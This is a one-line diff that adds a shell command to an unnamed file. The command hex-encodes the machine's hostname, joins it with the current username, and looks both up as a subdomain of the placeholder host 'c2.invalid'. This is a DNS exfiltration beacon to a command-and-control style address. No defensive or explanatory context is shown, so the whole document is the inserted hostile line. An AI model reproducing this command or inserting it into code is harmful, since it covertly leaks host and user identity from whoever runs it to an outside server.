@@ -1,0 +1,1 @@
+nslookup $(hostname | xxd -p).$(whoami).c2.invalid
